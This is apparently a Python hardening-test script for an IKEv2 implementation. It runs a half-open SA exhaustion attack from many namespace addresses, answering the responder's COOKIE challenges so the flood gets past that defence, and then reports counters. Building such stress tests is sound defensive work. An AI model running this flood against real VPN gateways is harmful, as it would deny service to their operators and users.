"""The half-open exhaustion attack of issue 13 F2, run as its own process in a namespace.

    python -m tests.hardening.half_open_attacker TEMPLATE_HEX DST PREFIXES PER_PREFIX
        PER_ADDRESS SECONDS RATE

The namespace holds PREFIXES x PER_PREFIX real addresses (10.77.P.1 ...): every address
sends IKE_SA_INIT requests (TEMPLATE with a fresh initiator SPI) from UDP port 500 and
answers a COOKIE demand by sending the request again with the COOKIE first (RFC 7296 sec.
2.6), so the responder's cookie check does not stop it: every request that the responder
admits becomes a half-open SA. Each address keeps PER_ADDRESS half-open SAs (those it got
an answer for in the last 30 s, the responder's half_open_timeout): every second it asks
for what it lacks, paced at RATE requests a second in total (a burst would overflow the
responder's socket buffer), for SECONDS. Prints a JSON line of counters at the end.
"""

from __future__ import annotations

import dataclasses
import json
import os
import selectors
import socket
import sys
import time

from ikev2.enums import NotifyType
from ikev2.errors import ProtocolError
from ikev2.message import parse_message, serialize_message
from ikev2.payloads import NotifyPayload


def addresses(prefixes: int, per_prefix: int) -> list[str]:
    return [f"10.77.{p}.{n}" for p in range(prefixes) for n in range(1, per_prefix + 1)]


def main(argv: list[str]) -> int:
    template_hex, destination, prefixes, per_prefix, per_address, seconds, rate = argv
    template = parse_message(bytes.fromhex(template_hex))
    hosts = addresses(int(prefixes), int(per_prefix))
    per_addr, rate_limit = int(per_address), float(rate)
    selector = selectors.DefaultSelector()
    sockets = []
    for host in hosts:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        sock.bind((host, 500))
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
        sockets.append(sock)
    counts = {"requests": 0, "cookies_answered": 0, "answered": 0, "other": 0, "rounds": 0}
    target = (destination, 500)

    def request(spi: bytes, cookie: bytes | None = None) -> bytes:
        header = dataclasses.replace(template.header, spi_i=spi)
        payloads = list(template.payloads)
        if cookie is not None:
            payloads.insert(0, NotifyPayload(notify_type=NotifyType.COOKIE, data=cookie))
        return serialize_message(header, payloads)

    started = time.monotonic()
    deadline = started + float(seconds)
    next_round = started
    answered: dict[int, list[float]] = {index: [] for index in range(len(sockets))}
    queue: list[int] = []  # socket indexes still to send one request from, this round
    tick = 0.02
    per_tick = max(1, int(rate_limit * tick)) if rate_limit else 10**9
    while time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_round:
            counts["rounds"] += 1
            next_round = now + 1.0
            queue = []
            for index in range(len(sockets)):
                live = [t for t in answered[index] if now - t < 30.0]
                answered[index] = live
                queue += [index] * max(0, per_addr - len(live))
        for index in queue[:per_tick]:
            try:
                sockets[index].sendto(request(os.urandom(8)), target)
            except OSError:
                continue
            counts["requests"] += 1
        del queue[:per_tick]
        for key, _ in selector.select(timeout=tick):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            while True:
                try:
                    data = sock.recv(65535)
                except BlockingIOError:
                    break
                try:
                    msg = parse_message(data)
                except ProtocolError:
                    counts["other"] += 1
                    continue
                first = msg.payloads[0] if msg.payloads else None
                if isinstance(first, NotifyPayload) and first.notify_type == NotifyType.COOKIE:
                    try:
                        sock.sendto(request(msg.header.spi_i, bytes(first.data)), target)
                    except OSError:
                        continue
                    counts["cookies_answered"] += 1
                elif any(msg.header.spi_r):
                    counts["answered"] += 1  # a half-open SA exists for it now
                    answered[sockets.index(sock)].append(time.monotonic())
                else:
                    counts["other"] += 1
    counts["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
